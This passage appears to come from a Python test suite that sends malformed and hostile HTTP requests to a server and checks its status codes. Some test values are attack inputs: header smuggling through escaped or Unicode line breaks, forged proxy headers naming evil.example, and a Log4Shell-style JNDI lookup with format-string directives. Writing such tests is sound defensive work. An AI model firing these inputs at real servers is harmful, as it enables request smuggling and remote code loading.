    ("a blank line of one space before a request", early(b" ")),
    ("a blank line of a tab before a request", early(b"\t")),
    ("a field name of one space", hiding(b" : x", CL + M)),
    ("a field name of one space before a request", early(b" : x")),
    ("a lone CR before a request", early(b"\r")),
    ("a NUL at the end of the last value", post(CL + N, b"X: a\0")),
    ("two NULs at the end of the last value", post(CL + N, b"X: a\0\0")),
    ("a NUL at the end of a value", post(b"X: a\0", CL + N)),
    ("a host that a NUL cuts", post(CL + N, host=b"Host: a\0b")),
    ("more fields than memory", post(*[b"X-%d: %s" % (i, b"y" * 1000) for i in range(80)], CL + N)),
) + either(
    ("LF alone in a value, and a coding", (400, 415, 422), hiding(JSON, CL + M, b"X: y\n" + TE + b"chunked",
                                                                  line=b"POST /customers HTTP/1.1")),
    ("LF alone in a value, and a length", (400, 415, 422), hiding(JSON, CL + M, b"X: y\nContent-Length: 0",
                                                                  line=b"POST /customers HTTP/1.1")),
    ("a head that LF alone ends, in a value", (400, 415, 422), post(CL + N, b"X: y\n\n" + MARKER, body=b"")),
    ("an empty host", (201, 400, 409), post(CL + N, host=b"Host:")),
    ("a host with a comma", (201, 400, 409), post(CL + N, host=b"Host: a,b")),
    ("a host with a bad port", (201, 400, 409), post(CL + N, host=b"Host: a:99999999")),
    ("an expectation that is none", (201, 409, 417), post(CL + N, b"Expect: nonsense")),
) + one(
    ("a host of an IPv6 address", (201, 409), post(CL + N, host=b"Host: [::1]:8080")),
    ("fields of proxies", (201, 409), post(
        CL + N, b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-Host: evil.example", b"Forwarded: for=127.0.0.1;host=evil.example",
        b"X-Real-IP: 127.0.0.1", b"Proxy: http://evil.example/", b"Via: 1.1 evil.example")),
    ("high bytes in a value", (201, 409), post("X: ä".encode(), CL + N)),
    ("bad UTF-8 in a value", (201, 409), post(b"X: \xff\xfe", CL + N)),
    ("an escaped line end in a value", (201, 409), post(b"X: a%0d%0aTransfer-Encoding:%20chunked", CL + N)),
    ("line separators of Unicode in a value", (201, 409), post("X: a\u2028Transfer-Encoding: chunked\u0085b".encode(), CL + N)),
    ("the letters of an escaped line end", (201, 409), post(b"X: a\\r\\nTransfer-Encoding: chunked", CL + N)),
    ("a value with format directives", (201, 409), post(b"X: %n%s%x${jndi:ldap://evil.example/}", CL + N)),
    ("an empty value", (201, 409), post(b"X:", CL + N)),
    ("a body in gzip", (415,), post(CL + N, b"Content-Encoding: gzip")),
    ("a body of a form", (400,), post(CL + N, b"Content-Type: application/x-www-form-urlencoded")),
    ("two types", (400,), post(CL + N, JSON)),
    ("a byte range", (201, 409), post(CL + N, b"Range: bytes=0-1")),
    ("a key of bad UTF-8", (400,), post(CL + N, b"Idempotency-Key: \"\xff\"")),
    ("two keys", (400,), post(CL + N, b'Idempotency-Key: "a"', b'Idempotency-Key: "b"')),
    ("a precondition that is none", (400,), post(CL + N, b"If-Match: 1")),
) + [Stream("a field of 10 KB", post(b"X: " + b"y" * 10000, CL + N), REFUSED, (431,)),
     Stream("two hundred fields", post(*[b"X-%d: y" % i for i in range(200)], CL + N), REFUSED, (431,))]

STREAMS = FRAMING + PLAIN + CHUNKS + LINE + PATHS + FIELDS
